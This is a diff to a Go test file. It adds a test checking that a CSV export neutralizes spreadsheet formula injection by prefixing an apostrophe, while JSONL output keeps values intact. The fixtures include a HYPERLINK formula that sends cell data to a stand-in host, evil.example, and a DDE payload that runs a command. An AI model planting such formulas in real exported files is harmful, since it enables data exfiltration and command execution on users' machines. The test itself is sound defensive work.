@@ -1,6 +1,8 @@
 package serve_test
 
 import (
+	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"net/http"
 	"path/filepath"
@@ -125,6 +127,74 @@ func TestUnbalancedHTMLStaysInside(t *testing.T) {
 			if foot == nil || ancestors(foot) != "body>html" {
 				t.Errorf("body %d: GET %s: footer misplaced", i, tt.path)
 			}
+		}
+	}
+}
+
+// TestExportNeutralizesFormulas exports items whose title and text start
+// with what a spreadsheet runs as a formula: in CSV every such cell starts
+// with an apostrophe; JSON keeps the values as they are.
+func TestExportNeutralizesFormulas(t *testing.T) {
+	titles := map[string]string{
+		"MC1": `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+		"MC2": `=cmd|' /C calc'!A0`,
+		"MC3": "+1+2",
+		"MC4": "-2+3",
+		"MC5": "@SUM(1+1)",
+		"MC6": "\t=1+1",
+		"MC7": "\r=1+1",
+		"MC8": "Plain = title",
+	}
+	var items []store.Item
+	for id, title := range titles {
+		items = append(items, mcItem(id, title, "<p>=1+1 in the body</p>"))
+	}
+	st := smallStore(t, items...)
+	var b bytes.Buffer
+	if _, err := serve.Export(t.Context(), &b, st, serve.ExportOptions{Format: "csv"}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := map[string]int{}
+	for i, c := range rows[0] {
+		col[c] = i
+	}
+	if len(rows) != len(titles)+1 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	for _, r := range rows[1:] {
+		id, title := r[col["id"]], r[col["title"]]
+		want := titles[id]
+		if id != "MC8" {
+			want = "'" + want
+		}
+		want = strings.ReplaceAll(want, "\r", "") // encoding/csv drops a lone CR with UseCRLF
+		if title != want {
+			t.Errorf("%s: CSV title %q, want %q", id, title, want)
+		}
+		if text := r[col["text"]]; text != "'=1+1 in the body" {
+			t.Errorf("%s: CSV text %q", id, text)
+		}
+		for i, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("%s: column %s starts a formula: %q", id, rows[0][i], cell)
+			}
+		}
+	}
+	b.Reset()
+	if _, err := serve.Export(t.Context(), &b, st, serve.ExportOptions{Format: "jsonl"}); err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(strings.TrimSpace(b.String()), "\n") {
+		var rec struct{ ID, Title string }
+		if err := json.Unmarshal([]byte(line), &rec); err != nil {
+			t.Fatal(err)
+		}
+		if rec.Title != titles[rec.ID] {
+			t.Errorf("%s: JSON title %q, want %q", rec.ID, rec.Title, titles[rec.ID])
 		}
 	}
 }
